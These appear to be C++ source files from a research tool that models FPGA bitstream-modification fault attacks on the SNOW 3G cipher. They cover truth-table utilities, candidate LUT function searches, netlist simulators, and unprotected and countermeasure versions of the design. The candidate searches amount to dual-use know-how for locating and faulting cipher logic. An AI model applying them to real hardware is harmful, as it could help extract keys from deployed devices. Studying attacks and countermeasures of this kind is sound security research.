    xors.push_back(static_cast<u8>(i - 1));
  }

  std::vector<Candidate> out;
  // FINDLUT permutes inputs, so only the number of negated controls matters
  // (c+1 polarity choices, Section VI-B).
  for (unsigned neg = 0; neg <= controls; ++neg) {
    TT g = x;
    std::string formula = "xor" + std::to_string(xor_arity);
    for (unsigned c = 0; c < controls; ++c) {
      const unsigned v = xor_arity + 1 + c;
      const bool negate = c < neg;
      g = g & (negate ? ~a(v) : a(v));
      formula += negate ? (" ~a" + std::to_string(v)) : (" a" + std::to_string(v));
    }
    for (unsigned p = 0; p < passthroughs; ++p) {
      const unsigned v = xor_arity + controls + 1 + p;
      g = g ^ a(v);
      formula += " ^ a" + std::to_string(v);
    }
    Candidate c;
    c.name = "gx" + std::to_string(xor_arity) + "c" + std::to_string(controls) + "n" +
             std::to_string(neg) + "p" + std::to_string(passthroughs);
    c.formula = std::move(formula);
    c.function = g;
    c.path = path;
    c.xor_vars = xors;
    out.push_back(std::move(c));
  }
  return out;
}

std::vector<Candidate> mux_fold_family() {
  // mux(a1; a2; F(a3..)) with F a small feedback fragment.  Variables of F
  // are shifted up by 2 so a1/a2 stay select/data.
  auto shift2 = [](TT t) {
    InputPermutation perm = {2, 3, 4, 5, 0, 1};  // F's a1 reads our a3, ...
    return t.permuted(perm);
  };
  std::vector<TT> fragments;
  std::vector<std::string> frag_names;
  // Plain XORs of 2..4 inputs.
  for (unsigned arity = 2; arity <= 4; ++arity) {
    TT x = TT::zero();
    for (unsigned i = 1; i <= arity; ++i) x = x ^ a(i);
    fragments.push_back(x);
    frag_names.push_back("xor" + std::to_string(arity));
  }
  // init-gated XOR fragments: P ^ (Q & c) with Q a 1- or 2-input XOR and P
  // a 0..2-input XOR of further tree terms.
  fragments.push_back((a(1) ^ a(2)) & a(3));
  frag_names.push_back("(a^b)c");
  fragments.push_back(((a(1) ^ a(2)) & a(3)) ^ a(4));
  frag_names.push_back("(a^b)c^d");
  fragments.push_back(((a(1) ^ a(2) ^ a(3)) & a(4)));
  frag_names.push_back("(a^b^c)d");
  fragments.push_back(a(1) & a(2));
  frag_names.push_back("ab");
  fragments.push_back((a(1) & a(2)) ^ a(3));
  frag_names.push_back("ab^c");
  fragments.push_back((a(1) & a(2)) ^ a(3) ^ a(4));
  frag_names.push_back("ab^c^d");

  std::vector<Candidate> out;
  for (size_t i = 0; i < fragments.size(); ++i) {
    const TT f = shift2(fragments[i]);
    Candidate c;
    c.name = "mux_fold_" + frag_names[i];
    c.formula = "a1 a2 + ~a1 (" + frag_names[i] + " over a3..)";
    c.function = (a(1) & a(2)) | (~a(1) & f);
    c.path = TargetPath::kLoadMux;
    c.sel_var = 0;
    out.push_back(std::move(c));
  }
  return out;
}

u32 mux3_half() {
  // sel ? d1 : d0 over five variables: a1 = sel, a2 = d1, a3 = d0.
  const TT m = (a(1) & a(2)) | (~a(1) & a(3));
  return m.half(0);
}

}  // namespace sbm::logic
