#include "logic/truth_table.h"

#include <algorithm>
#include <numeric>

namespace sbm::logic {

TruthTable6 TruthTable6::permuted(const InputPermutation& perm) const {
  u64 out = 0;
  for (unsigned i = 0; i < kTableBits; ++i) {
    unsigned j = 0;
    for (unsigned k = 0; k < kLutInputs; ++k) {
      j |= bit_of(i, perm[k]) << k;
    }
    out |= u64{bit_of(bits_, j)} << i;
  }
  return TruthTable6(out);
}

bool TruthTable6::depends_on(unsigned v) const {
  return cofactor(v, 0) != cofactor(v, 1);
}

unsigned TruthTable6::support_size() const {
  unsigned n = 0;
  for (unsigned v = 0; v < kLutInputs; ++v) n += depends_on(v) ? 1 : 0;
  return n;
}

TruthTable6 TruthTable6::cofactor(unsigned v, u32 value) const {
  const u64 mask = TruthTable6::var(v).bits();
  const u64 keep = value ? (bits_ & mask) : (bits_ & ~mask);
  const unsigned shift = 1u << v;
  // Copy the selected cofactor into both polarity slots of variable v.
  return TruthTable6(value ? (keep | (keep >> shift)) : (keep | (keep << shift)));
}

std::string TruthTable6::to_string() const {
  static const char* kDigits = "0123456789abcdef";
  std::string s(16, '0');
  u64 w = bits_;
  for (int i = 15; i >= 0; --i) {
    s[static_cast<size_t>(i)] = kDigits[w & 0xf];
    w >>= 4;
  }
  return s;
}

const std::vector<InputPermutation>& all_permutations6() {
  static const std::vector<InputPermutation> perms = [] {
    std::vector<InputPermutation> out;
    InputPermutation p{};
    std::iota(p.begin(), p.end(), u8{0});
    do {
      out.push_back(p);
    } while (std::next_permutation(p.begin(), p.end()));
    return out;
  }();
  return perms;
}

std::vector<TruthTable6> p_class(TruthTable6 f) {
  std::vector<TruthTable6> tables;
  tables.reserve(all_permutations6().size());
  for (const auto& perm : all_permutations6()) tables.push_back(f.permuted(perm));
  std::sort(tables.begin(), tables.end());
  tables.erase(std::unique(tables.begin(), tables.end()), tables.end());
  return tables;
}

TruthTable6 p_canonical(TruthTable6 f) {
  TruthTable6 best = f;
  for (const auto& perm : all_permutations6()) best = std::min(best, f.permuted(perm));
  return best;
}

bool p_equivalent(TruthTable6 f, TruthTable6 g) { return p_canonical(f) == p_canonical(g); }

bool half_is_xor2(u32 half, bool allow_complement) {
  // 5-variable projections (bit j of the half-table index is variable a_{j+1}).
  constexpr std::array<u32, 5> kVar5 = {0xaaaaaaaau, 0xccccccccu, 0xf0f0f0f0u, 0xff00ff00u,
                                        0xffff0000u};
  for (unsigned i = 0; i < 5; ++i) {
    for (unsigned j = i + 1; j < 5; ++j) {
      const u32 x = kVar5[i] ^ kVar5[j];
      if (half == x) return true;
      if (allow_complement && half == ~x) return true;
    }
  }
  return false;
}

}  // namespace sbm::logic
