#include "netlist/sim.h"

namespace sbm::netlist {

Simulator::Simulator(const Network& net)
    : net_(net), value_(net.node_count(), 0), state_(net.node_count(), 0) {
  net_.topo_order();  // force cache construction up front
}

void Simulator::set_input(NodeId input, bool v) { value_[input] = v ? 1 : 0; }

void Simulator::set_input_word(const Word& w, u32 v) {
  for (unsigned i = 0; i < 32; ++i) set_input(w[i], bit_of(v, i) != 0);
}

void Simulator::settle() {
  for (NodeId id : net_.topo_order()) {
    const Node& n = net_.node(id);
    switch (n.kind) {
      case NodeKind::kConst0:
        value_[id] = 0;
        break;
      case NodeKind::kConst1:
        value_[id] = 1;
        break;
      case NodeKind::kInput:
        break;  // testbench-driven
      case NodeKind::kDff:
        value_[id] = state_[id];
        break;
      case NodeKind::kAnd:
        value_[id] = value_[n.fanin[0]] & value_[n.fanin[1]];
        break;
      case NodeKind::kOr:
        value_[id] = value_[n.fanin[0]] | value_[n.fanin[1]];
        break;
      case NodeKind::kXor:
        value_[id] = value_[n.fanin[0]] ^ value_[n.fanin[1]];
        break;
      case NodeKind::kNot:
        value_[id] = value_[n.fanin[0]] ^ 1;
        break;
      case NodeKind::kCarry: {
        const u8 a = value_[n.fanin[0]], b = value_[n.fanin[1]], c = value_[n.fanin[2]];
        value_[id] = static_cast<u8>((a & b) | (c & (a ^ b)));
        break;
      }
      case NodeKind::kBramOut: {
        const Bram& b = net_.brams()[n.bram];
        // All 32 inputs are earlier in topo order; evaluate lazily per bit.
        u32 addr = 0;
        for (unsigned i = 0; i < 32; ++i) addr |= u32{value_[b.inputs[i]]} << i;
        value_[id] = bit_of(b.eval(addr), n.bram_bit);
        break;
      }
    }
  }
}

void Simulator::clock() {
  for (NodeId dff : net_.dffs()) {
    const NodeId d = net_.node(dff).fanin[0];
    state_[dff] = d == kNoNode ? 0 : value_[d];
  }
}

u32 Simulator::read_word(const Word& w) const {
  u32 v = 0;
  for (unsigned i = 0; i < 32; ++i) v |= u32{value(w[i])} << i;
  return v;
}

void Simulator::reset() {
  std::fill(value_.begin(), value_.end(), 0);
  std::fill(state_.begin(), state_.end(), 0);
}

}  // namespace sbm::netlist
