#include "netlist/batch_sim.h"

namespace sbm::netlist {

// The portable scalar reference.  The 256/512-lane instantiations live in
// src/simd/kernels_*.cpp, which are compiled with the matching -m flags.
template class BatchSimulatorT<u64>;

}  // namespace sbm::netlist
