#include "netlist/batch_sim.h"

namespace sbm::netlist {

BatchSimulator::BatchSimulator(const Network& net)
    : net_(net), value_(net.node_count(), 0), state_(net.node_count(), 0) {
  compile();
  reset();
}

void BatchSimulator::compile() {
  bram_out_.assign(net_.brams().size() * 32, 0);
  bram_stamp_.assign(net_.brams().size(), 0);

  auto start_run = [this](Kind kind, u32 begin) {
    if (!runs_.empty() && runs_.back().kind == kind) return;
    runs_.push_back({kind, begin, begin});
  };
  for (NodeId id : net_.topo_order()) {
    const Node& n = net_.node(id);
    switch (n.kind) {
      case NodeKind::kConst0:
      case NodeKind::kConst1:
      case NodeKind::kInput:
      case NodeKind::kDff:
        break;  // constants set at reset, inputs testbench-driven, DFFs preloaded
      case NodeKind::kBramOut:
        start_run(Kind::kBram, static_cast<u32>(bram_ops_.size()));
        bram_ops_.push_back({id, n.bram, n.bram_bit});
        runs_.back().end = static_cast<u32>(bram_ops_.size());
        break;
      default: {
        const Kind kind = n.kind == NodeKind::kAnd   ? Kind::kAnd
                          : n.kind == NodeKind::kOr  ? Kind::kOr
                          : n.kind == NodeKind::kXor ? Kind::kXor
                          : n.kind == NodeKind::kNot ? Kind::kNot
                                                     : Kind::kCarry;
        start_run(kind, static_cast<u32>(ops_.size()));
        ops_.push_back({id, n.fanin[0], n.fanin[1], n.fanin[2]});
        runs_.back().end = static_cast<u32>(ops_.size());
        break;
      }
    }
  }
}

void BatchSimulator::set_input(NodeId input, bool v) { value_[input] = v ? ~u64{0} : 0; }

void BatchSimulator::set_input_word(const Word& w, u32 v) {
  for (unsigned i = 0; i < 32; ++i) set_input(w[i], bit_of(v, i) != 0);
}

void BatchSimulator::set_input_lane(NodeId input, unsigned lane, bool v) {
  const u64 mask = u64{1} << lane;
  value_[input] = v ? (value_[input] | mask) : (value_[input] & ~mask);
}

void BatchSimulator::set_input_word_lane(const Word& w, unsigned lane, u32 v) {
  for (unsigned i = 0; i < 32; ++i) set_input_lane(w[i], lane, bit_of(v, i) != 0);
}

void BatchSimulator::eval_bram(u32 index) {
  const Bram& b = net_.brams()[index];
  u64* out = &bram_out_[size_t{index} * 32];
  for (unsigned i = 0; i < 32; ++i) out[i] = 0;
  for (unsigned lane = 0; lane < kLanes; ++lane) {
    u32 addr = 0;
    for (unsigned i = 0; i < 32; ++i) addr |= static_cast<u32>((value_[b.inputs[i]] >> lane) & 1)
                                              << i;
    const u32 o = b.eval(addr);
    for (unsigned i = 0; i < 32; ++i) out[i] |= u64{(o >> i) & 1} << lane;
  }
}

void BatchSimulator::settle() {
  ++stamp_;
  for (NodeId dff : net_.dffs()) value_[dff] = state_[dff];
  for (const Run& r : runs_) {
    switch (r.kind) {
      case Kind::kAnd:
        for (u32 i = r.begin; i < r.end; ++i) {
          const Op& o = ops_[i];
          value_[o.dst] = value_[o.a] & value_[o.b];
        }
        break;
      case Kind::kOr:
        for (u32 i = r.begin; i < r.end; ++i) {
          const Op& o = ops_[i];
          value_[o.dst] = value_[o.a] | value_[o.b];
        }
        break;
      case Kind::kXor:
        for (u32 i = r.begin; i < r.end; ++i) {
          const Op& o = ops_[i];
          value_[o.dst] = value_[o.a] ^ value_[o.b];
        }
        break;
      case Kind::kNot:
        for (u32 i = r.begin; i < r.end; ++i) {
          const Op& o = ops_[i];
          value_[o.dst] = ~value_[o.a];
        }
        break;
      case Kind::kCarry:
        for (u32 i = r.begin; i < r.end; ++i) {
          const Op& o = ops_[i];
          const u64 a = value_[o.a], b = value_[o.b], c = value_[o.c];
          value_[o.dst] = (a & b) | (c & (a ^ b));
        }
        break;
      case Kind::kBram:
        for (u32 i = r.begin; i < r.end; ++i) {
          const BramOp& o = bram_ops_[i];
          if (bram_stamp_[o.bram] != stamp_) {
            eval_bram(o.bram);
            bram_stamp_[o.bram] = stamp_;
          }
          value_[o.dst] = bram_out_[size_t{o.bram} * 32 + o.bit];
        }
        break;
    }
  }
}

void BatchSimulator::clock() {
  for (NodeId dff : net_.dffs()) {
    const NodeId d = net_.node(dff).fanin[0];
    state_[dff] = d == kNoNode ? 0 : value_[d];
  }
}

u32 BatchSimulator::read_word_lane(const Word& w, unsigned lane) const {
  u32 v = 0;
  for (unsigned i = 0; i < 32; ++i) v |= u32{value(w[i], lane)} << i;
  return v;
}

void BatchSimulator::reset() {
  std::fill(value_.begin(), value_.end(), 0);
  std::fill(state_.begin(), state_.end(), 0);
  value_[net_.const1()] = ~u64{0};
  // stamp_ deliberately kept: BRAM caches are per-settle, not per-reset.
}

}  // namespace sbm::netlist
