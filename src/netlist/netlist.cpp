#include "netlist/netlist.h"

#include <stdexcept>

namespace sbm::netlist {

Network::Network() {
  const0_ = add_node({NodeKind::kConst0, {kNoNode, kNoNode, kNoNode}, 0, 0, false});
  const1_ = add_node({NodeKind::kConst1, {kNoNode, kNoNode, kNoNode}, 0, 0, false});
}

NodeId Network::add_node(Node n) {
  nodes_.push_back(n);
  topo_cache_.clear();
  return static_cast<NodeId>(nodes_.size() - 1);
}

NodeId Network::add_input(std::string name) {
  const NodeId id = add_node({NodeKind::kInput, {kNoNode, kNoNode, kNoNode}, 0, 0, false});
  inputs_.push_back(id);
  names_.emplace_back(id, std::move(name));
  return id;
}

NodeId Network::add_gate(NodeKind kind, NodeId a, NodeId b) {
  if (kind != NodeKind::kAnd && kind != NodeKind::kOr && kind != NodeKind::kXor) {
    throw std::invalid_argument("add_gate: kind must be AND/OR/XOR");
  }
  // Light structural folding keeps constant-driven logic out of the fabric.
  auto is_c0 = [this](NodeId n) { return n == const0_; };
  auto is_c1 = [this](NodeId n) { return n == const1_; };
  if (kind == NodeKind::kAnd) {
    if (is_c0(a) || is_c0(b)) return const0_;
    if (is_c1(a)) return b;
    if (is_c1(b)) return a;
  } else if (kind == NodeKind::kOr) {
    if (is_c1(a) || is_c1(b)) return const1_;
    if (is_c0(a)) return b;
    if (is_c0(b)) return a;
  } else {
    if (is_c0(a)) return b;
    if (is_c0(b)) return a;
    if (is_c1(a)) return add_not(b);
    if (is_c1(b)) return add_not(a);
  }
  return add_node({kind, {a, b, kNoNode}, 0, 0, false});
}

NodeId Network::add_not(NodeId a) {
  if (a == const0_) return const1_;
  if (a == const1_) return const0_;
  return add_node({NodeKind::kNot, {a, kNoNode, kNoNode}, 0, 0, false});
}

NodeId Network::add_carry(NodeId a, NodeId b, NodeId cin) {
  if (cin == const0_) return add_gate(NodeKind::kAnd, a, b);
  if (cin == const1_) return add_gate(NodeKind::kOr, a, b);
  return add_node({NodeKind::kCarry, {a, b, cin}, 0, 0, false});
}

NodeId Network::add_dff(std::string name) {
  const NodeId id = add_node({NodeKind::kDff, {kNoNode, kNoNode, kNoNode}, 0, 0, false});
  dff_ids_.push_back(id);
  names_.emplace_back(id, std::move(name));
  return id;
}

void Network::connect_dff(NodeId dff, NodeId d) {
  if (nodes_[dff].kind != NodeKind::kDff) throw std::invalid_argument("not a DFF");
  nodes_[dff].fanin[0] = d;
  topo_cache_.clear();
}

u32 Network::add_bram(std::string name, const Word& inputs, std::function<u32(u32)> eval) {
  Bram b;
  b.name = std::move(name);
  b.inputs = inputs;
  b.eval = std::move(eval);
  const u32 index = static_cast<u32>(brams_.size());
  for (unsigned i = 0; i < 32; ++i) {
    b.outputs[i] =
        add_node({NodeKind::kBramOut, {kNoNode, kNoNode, kNoNode}, index, static_cast<u8>(i),
                  false});
  }
  brams_.push_back(std::move(b));
  return index;
}

void Network::add_output(std::string name, NodeId node) {
  outputs_.emplace_back(std::move(name), node);
}

void Network::add_output_word(const std::string& name, const Word& w) {
  for (unsigned i = 0; i < 32; ++i) add_output(name + "[" + std::to_string(i) + "]", w[i]);
}

Word Network::add_input_word(const std::string& name) {
  Word w{};
  for (unsigned i = 0; i < 32; ++i) w[i] = add_input(name + "[" + std::to_string(i) + "]");
  return w;
}

Word Network::add_dff_word(const std::string& name) {
  Word w{};
  for (unsigned i = 0; i < 32; ++i) w[i] = add_dff(name + "[" + std::to_string(i) + "]");
  return w;
}

Word Network::const_word(u32 value) {
  Word w{};
  for (unsigned i = 0; i < 32; ++i) w[i] = bit_of(value, i) ? const1_ : const0_;
  return w;
}

Word Network::xor_word(const Word& a, const Word& b) {
  Word w{};
  for (unsigned i = 0; i < 32; ++i) w[i] = add_gate(NodeKind::kXor, a[i], b[i]);
  return w;
}

Word Network::and_scalar(const Word& a, NodeId s) {
  Word w{};
  for (unsigned i = 0; i < 32; ++i) w[i] = add_gate(NodeKind::kAnd, a[i], s);
  return w;
}

Word Network::mux_word(NodeId sel, const Word& when1, const Word& when0) {
  const NodeId nsel = add_not(sel);
  Word w{};
  for (unsigned i = 0; i < 32; ++i) {
    const NodeId hi = add_gate(NodeKind::kAnd, when1[i], sel);
    const NodeId lo = add_gate(NodeKind::kAnd, when0[i], nsel);
    w[i] = add_gate(NodeKind::kOr, hi, lo);
  }
  return w;
}

Word Network::not_word(const Word& a) {
  Word w{};
  for (unsigned i = 0; i < 32; ++i) w[i] = add_not(a[i]);
  return w;
}

Word Network::add32(const Word& a, const Word& b) {
  // Carry-chain adder, the way vendor tools infer "+": the per-bit sum XOR
  // lands in a LUT while carries ride the dedicated chain (CARRY4).
  Word sum{};
  NodeId carry = const0_;
  for (unsigned i = 0; i < 32; ++i) {
    const NodeId axb = add_gate(NodeKind::kXor, a[i], b[i]);
    sum[i] = add_gate(NodeKind::kXor, axb, carry);
    if (i + 1 < 32) carry = add_carry(a[i], b[i], carry);
  }
  return sum;
}

NodeId Network::xor_tree(std::vector<NodeId> nets) {
  if (nets.empty()) return const0_;
  // Balanced reduction keeps logic depth minimal, as a mapper-friendly
  // synthesis front end would.
  while (nets.size() > 1) {
    std::vector<NodeId> next;
    next.reserve((nets.size() + 1) / 2);
    for (size_t i = 0; i + 1 < nets.size(); i += 2) {
      next.push_back(add_gate(NodeKind::kXor, nets[i], nets[i + 1]));
    }
    if (nets.size() % 2 == 1) next.push_back(nets.back());
    nets = std::move(next);
  }
  return nets[0];
}

const std::string& Network::name_of(NodeId id) const {
  static const std::string kEmpty;
  for (const auto& [node, name] : names_) {
    if (node == id) return name;
  }
  return kEmpty;
}

const std::vector<NodeId>& Network::topo_order() const {
  if (!topo_cache_.empty() || nodes_.empty()) return topo_cache_;
  // Iterative DFS over combinational fanin.  DFF Qs, inputs and constants
  // are sources.  A BRAM output depends on all inputs of its block.
  std::vector<u8> state(nodes_.size(), 0);  // 0 = new, 1 = open, 2 = done
  std::vector<NodeId> stack;
  auto push_fanins = [&](NodeId id, std::vector<NodeId>& st) {
    const Node& n = nodes_[id];
    switch (n.kind) {
      case NodeKind::kAnd:
      case NodeKind::kOr:
      case NodeKind::kXor:
        st.push_back(n.fanin[0]);
        st.push_back(n.fanin[1]);
        break;
      case NodeKind::kNot:
        st.push_back(n.fanin[0]);
        break;
      case NodeKind::kCarry:
        st.push_back(n.fanin[0]);
        st.push_back(n.fanin[1]);
        st.push_back(n.fanin[2]);
        break;
      case NodeKind::kBramOut:
        for (NodeId in : brams_[n.bram].inputs) st.push_back(in);
        break;
      default:
        break;  // sources
    }
  };
  for (NodeId root = 0; root < nodes_.size(); ++root) {
    if (state[root] != 0) continue;
    stack.push_back(root);
    while (!stack.empty()) {
      const NodeId id = stack.back();
      if (state[id] == 2) {
        stack.pop_back();
        continue;
      }
      if (state[id] == 0) {
        state[id] = 1;
        std::vector<NodeId> fanins;
        push_fanins(id, fanins);
        bool ready = true;
        for (NodeId f : fanins) {
          if (state[f] == 0) {
            stack.push_back(f);
            ready = false;
          } else if (state[f] == 1) {
            throw std::logic_error("combinational cycle in netlist");
          }
        }
        if (!ready) continue;
      }
      state[id] = 2;
      topo_cache_.push_back(id);
      stack.pop_back();
    }
  }
  return topo_cache_;
}

size_t Network::gate_count() const {
  size_t n = 0;
  for (const Node& node : nodes_) {
    switch (node.kind) {
      case NodeKind::kAnd:
      case NodeKind::kOr:
      case NodeKind::kXor:
      case NodeKind::kNot:
        ++n;
        break;
      default:
        break;
    }
  }
  return n;
}

}  // namespace sbm::netlist
