#include "netlist/snow3g_design.h"

#include "snow3g/gf.h"
#include "snow3g/sbox.h"

namespace sbm::netlist {
namespace {

using snow3g::div_alpha;
using snow3g::linear_map_columns;
using snow3g::mul_alpha;

// alpha * s0: (s0 << 8) xor MULalpha(byte3(s0)), as XOR trees per output bit.
Word alpha_times_word(Network& net, const Word& s0) {
  const auto cols = linear_map_columns(&mul_alpha);
  Word out{};
  for (unsigned i = 0; i < 32; ++i) {
    std::vector<NodeId> terms;
    if (i >= 8) terms.push_back(s0[i - 8]);  // the byte shift left
    for (unsigned j = 0; j < 8; ++j) {
      if (bit_of(cols[j], i)) terms.push_back(s0[24 + j]);  // MULalpha of byte 3
    }
    out[i] = net.xor_tree(std::move(terms));
  }
  return out;
}

// alpha^{-1} * s11: (s11 >> 8) xor DIValpha(byte0(s11)).
Word alpha_div_word(Network& net, const Word& s11) {
  const auto cols = linear_map_columns(&div_alpha);
  Word out{};
  for (unsigned i = 0; i < 32; ++i) {
    std::vector<NodeId> terms;
    if (i < 24) terms.push_back(s11[i + 8]);  // the byte shift right
    for (unsigned j = 0; j < 8; ++j) {
      if (bit_of(cols[j], i)) terms.push_back(s11[j]);  // DIValpha of byte 0
    }
    out[i] = net.xor_tree(std::move(terms));
  }
  return out;
}

// alpha*s0 and alpha^{-1}*s11 as flat term lists (per output bit), so the
// unprotected variant can fold the gated FSM word into one balanced XOR tree
// per feedback bit.  The differing term counts across the three byte regions
// (bits 0..7 / 8..23 / 24..31) are what makes the mapper cover the target
// node v heterogeneously — the effect behind the paper's 24 + 8 LUT2/LUT3
// split.
std::vector<NodeId> alpha_terms(const Word& s0, unsigned i) {
  const auto cols = linear_map_columns(&mul_alpha);
  std::vector<NodeId> terms;
  if (i >= 8) terms.push_back(s0[i - 8]);
  for (unsigned j = 0; j < 8; ++j) {
    if (bit_of(cols[j], i)) terms.push_back(s0[24 + j]);
  }
  return terms;
}

std::vector<NodeId> alpha_div_terms(const Word& s11, unsigned i) {
  const auto cols = linear_map_columns(&div_alpha);
  std::vector<NodeId> terms;
  if (i < 24) terms.push_back(s11[i + 8]);
  for (unsigned j = 0; j < 8; ++j) {
    if (bit_of(cols[j], i)) terms.push_back(s11[j]);
  }
  return terms;
}

Snow3gDesign build(bool protect, bool equalize = false) {
  Snow3gDesign d;
  Network& net = d.net;

  // Interface.
  for (int i = 0; i < 4; ++i) d.key[static_cast<size_t>(i)] = net.add_input_word("k" + std::to_string(i));
  for (int i = 0; i < 4; ++i) d.iv[static_cast<size_t>(i)] = net.add_input_word("iv" + std::to_string(i));
  d.load = net.add_input("load");
  d.init = net.add_input("init");
  d.gen = net.add_input("gen");

  // State.
  std::array<Word, 16> s{};
  for (int j = 0; j < 16; ++j) s[static_cast<size_t>(j)] = net.add_dff_word("s" + std::to_string(j));
  const Word r1 = net.add_dff_word("R1");
  const Word r2 = net.add_dff_word("R2");
  const Word r3 = net.add_dff_word("R3");

  // gamma(K, IV) words (Section III), combined one pipeline stage ahead of
  // the LFSR-load MUXes.  Registering the key/IV combination is a routine
  // timing choice; it also gives the design the paper's uniform LUT_MUX2
  // population (every stage MUX selects between a register bit and the
  // shifted-in bit).  The all-1s constant folds into NOTs.
  const Word ones = net.const_word(0xffffffffu);
  std::array<Word, 16> gc{};
  gc[15] = net.xor_word(d.key[3], d.iv[0]);
  gc[14] = d.key[2];
  gc[13] = d.key[1];
  gc[12] = net.xor_word(d.key[0], d.iv[1]);
  gc[11] = net.xor_word(d.key[3], ones);
  gc[10] = net.xor_word(net.xor_word(d.key[2], ones), d.iv[2]);
  gc[9] = net.xor_word(net.xor_word(d.key[1], ones), d.iv[3]);
  gc[8] = net.xor_word(d.key[0], ones);
  gc[7] = d.key[3];
  gc[6] = d.key[2];
  gc[5] = d.key[1];
  gc[4] = d.key[0];
  gc[3] = net.xor_word(d.key[3], ones);
  gc[2] = net.xor_word(d.key[2], ones);
  gc[1] = net.xor_word(d.key[1], ones);
  gc[0] = net.xor_word(d.key[0], ones);
  std::array<Word, 16> g{};
  for (int j = 0; j < 16; ++j) {
    g[static_cast<size_t>(j)] = net.add_dff_word("g" + std::to_string(j));
    for (unsigned i = 0; i < 32; ++i) {
      net.connect_dff(g[static_cast<size_t>(j)][i], gc[static_cast<size_t>(j)][i]);
    }
  }

  // FSM output word W = (s15 boxplus R1) xor R2 — the paper's node v.
  const Word add2 = net.add32(s[15], r1);
  Word v{};
  if (!equalize) {
    for (unsigned i = 0; i < 32; ++i) {
      v[i] = net.add_gate(NodeKind::kXor, add2[i], r2[i]);
      d.target_v[i] = v[i];
    }
  } else {
    // Response-equalized target: three structurally distinct copies of the
    // same XOR2, recombined by an unkept XOR pair.  The mapper absorbs the
    // unkept intermediate into a 3-input XOR LUT for v (invisible to the
    // XOR2 half-table scan), while each kept copy lands in its own trivial
    // XOR2 cut.  c1 ^ c2 cancels, so v[i] == c3 functionally — but zeroing
    // any one copy leaves the XOR of the other two equal to 0 and therefore
    // zeroes v[i]: all three copies share one fault-response class.
    for (unsigned i = 0; i < 32; ++i) {
      std::array<NodeId, 3> copies{};
      for (int c = 0; c < 3; ++c) {
        copies[static_cast<size_t>(c)] = net.add_gate(NodeKind::kXor, add2[i], r2[i]);
      }
      const NodeId t = net.add_gate(NodeKind::kXor, copies[0], copies[1]);
      v[i] = net.add_gate(NodeKind::kXor, t, copies[2]);
      d.target_v[i] = v[i];
      d.target_copies[i] = copies;
    }
  }
  const Word v_gated = net.and_scalar(v, d.init);

  // LFSR feedback s15_pre = alpha*s0 xor s2 xor alpha^{-1}*s11 xor (v & init).
  Word s15_pre{};
  Word fb_partial{};  // protected variant only: explicit 2-input XOR stages
  Word fb{};
  if (!protect) {
    // One balanced XOR tree per bit with the gated FSM word as a term; the
    // mapper is free to absorb v into whichever 6-feasible cover wins.
    for (unsigned i = 0; i < 32; ++i) {
      std::vector<NodeId> terms = alpha_terms(s[0], i);
      terms.push_back(s[2][i]);
      for (NodeId t : alpha_div_terms(s[11], i)) terms.push_back(t);
      terms.push_back(v_gated[i]);
      s15_pre[i] = net.xor_tree(std::move(terms));
      d.feedback_inject[i] = s15_pre[i];
    }
  } else {
    // Countermeasure structure: explicit 2-input XOR vectors so that the
    // target and its decoys can be pinned by DONT_TOUCH.
    const Word a_s0 = alpha_times_word(net, s[0]);
    const Word ai_s11 = alpha_div_word(net, s[11]);
    for (unsigned i = 0; i < 32; ++i) {
      fb_partial[i] = net.add_gate(NodeKind::kXor, a_s0[i], s[2][i]);
      fb[i] = net.add_gate(NodeKind::kXor, fb_partial[i], ai_s11[i]);
      s15_pre[i] = net.add_gate(NodeKind::kXor, fb[i], v_gated[i]);
      d.feedback_inject[i] = s15_pre[i];
    }
  }

  // Register next-state MUXes (the LUT_MUX2 population of Section VI-D.2).
  for (int j = 0; j < 15; ++j) {
    const Word next = net.mux_word(d.load, g[static_cast<size_t>(j)], s[static_cast<size_t>(j) + 1]);
    for (unsigned i = 0; i < 32; ++i) net.connect_dff(s[static_cast<size_t>(j)][i], next[i]);
  }
  const Word s15_next = net.mux_word(d.load, g[15], s15_pre);
  for (unsigned i = 0; i < 32; ++i) net.connect_dff(s[15][i], s15_next[i]);

  // FSM update: r = R2 boxplus (R3 xor s5); R2' = S1(R1) (BRAM); R3' = S2(R2)
  // (BRAM); all cleared on load.
  const Word r3_x_s5 = net.xor_word(r3, s[5]);
  const Word add1 = net.add32(r2, r3_x_s5);
  const NodeId nload = net.add_not(d.load);
  const u32 sb1 = net.add_bram("S1", r1, [](u32 w) { return snow3g::s1(w); });
  const u32 sb2 = net.add_bram("S2", r2, [](u32 w) { return snow3g::s2(w); });
  for (unsigned i = 0; i < 32; ++i) {
    net.connect_dff(r1[i], net.add_gate(NodeKind::kAnd, add1[i], nload));
    net.connect_dff(r2[i], net.add_gate(NodeKind::kAnd, net.brams()[sb1].outputs[i], nload));
    net.connect_dff(r3[i], net.add_gate(NodeKind::kAnd, net.brams()[sb2].outputs[i], nload));
  }

  // Keystream output z = (s0 xor v) gated by gen & ~init & ~load.
  const NodeId ninit = net.add_not(d.init);
  Word z{};
  for (unsigned i = 0; i < 32; ++i) {
    const NodeId zx = net.add_gate(NodeKind::kXor, s[0][i], v[i]);
    d.zpath_xor[i] = zx;
    const NodeId g1 = net.add_gate(NodeKind::kAnd, zx, d.gen);
    const NodeId g2 = net.add_gate(NodeKind::kAnd, g1, ninit);
    z[i] = net.add_gate(NodeKind::kAnd, g2, nload);
  }
  d.z = z;
  net.add_output_word("z", z);

  if (protect) {
    d.protected_variant = true;
    d.equalized = equalize;
    // Target nodes v and five decoy 32-bit XOR vectors with the same
    // function (2-input XOR) are forced into trivial cuts (Section VII-A:
    // m = 32, r = 5 * 32 so x = 5 > 16/e - 1).  In the equalized variant
    // the three copies are kept instead of v itself: v must stay unkept so
    // its LUT covers all three copies as a 3-input XOR rather than a
    // scannable XOR2.
    for (unsigned i = 0; i < 32; ++i) {
      if (equalize) {
        for (const NodeId c : d.target_copies[i]) net.set_keep(c);
      } else {
        net.set_keep(d.target_v[i]);
      }
      net.set_keep(d.zpath_xor[i]);
      net.set_keep(d.feedback_inject[i]);
      net.set_keep(fb_partial[i]);
      net.set_keep(fb[i]);
      net.set_keep(r3_x_s5[i]);
      d.decoy_xors.push_back(d.zpath_xor[i]);
      d.decoy_xors.push_back(d.feedback_inject[i]);
      d.decoy_xors.push_back(fb_partial[i]);
      d.decoy_xors.push_back(fb[i]);
      d.decoy_xors.push_back(r3_x_s5[i]);
    }
  }
  return d;
}

}  // namespace

Snow3gDesign build_snow3g_design() { return build(false); }

Snow3gDesign build_protected_snow3g_design() { return build(true); }

Snow3gDesign build_equalized_snow3g_design() { return build(true, true); }

}  // namespace sbm::netlist
